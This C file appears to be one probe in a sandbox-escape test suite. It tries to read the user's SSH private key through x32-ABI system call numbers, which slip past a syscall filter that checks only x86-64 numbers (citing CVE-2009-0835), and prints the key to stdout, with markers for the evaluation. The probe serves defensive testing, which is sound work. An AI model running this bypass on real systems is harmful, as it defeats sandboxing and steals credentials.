/*
 * family: injection
 * tries: read the user's SSH key through the x32 system-call ABI (numbers with bit 30 set: open, read, write), which a filter that only checks x86-64 numbers lets through
 * source: https://nvd.nist.gov/vuln/detail/CVE-2009-0835
 * exfil: yes
 * stopped-when: canary-unread
 * attempted-when: marker
 *
 * Needs a kernel built with CONFIG_X86_X32_ABI (else every call fails
 * with ENOSYS, and it says CANNOT: the eval reports it not run, never
 * stopped). On other architectures it prints why and exits 1.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
#if defined(__x86_64__)
	const long x32 = 0x40000000; /* __X32_SYSCALL_BIT */
	static char path[4096], buf[65536];
	long fd, n;

	if (argc < 9) {
		fprintf(stderr,
		    "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	fprintf(stderr, "ATTEMPTED %s\n", argv[1]);
	snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", argv[2]);
	fflush(stdout);
	/* x32 shares x86-64's numbers for these: read 0, write 1, open 2. */
	if ((fd = syscall(x32 | SYS_open, path, O_RDONLY)) < 0) {
		int e = errno;

		printf("x32 open: %s\n", strerror(e));
		/* ENOSYS: this kernel has no x32 ABI, so nothing was tried
		 * (a filter that refuses x32 kills the job here instead). */
		if (e == ENOSYS)
			fprintf(stderr,
			    "CANNOT %s no x32 ABI in this kernel "
			    "(ENOSYS)\n",
			    argv[1]);
		return 1;
	}
	while ((n = syscall(x32 | SYS_read, fd, buf, sizeof(buf))) > 0)
		syscall(x32 | SYS_write, 1, buf, n);
	syscall(x32 | SYS_close, fd);
	return 0;
#else
	printf("not an x86-64 build: no x32 ABI to try\n");
	if (argc > 1)
		fprintf(stderr, "CANNOT %s not an x86-64 build\n", argv[1]);
	return 1;
#endif
}
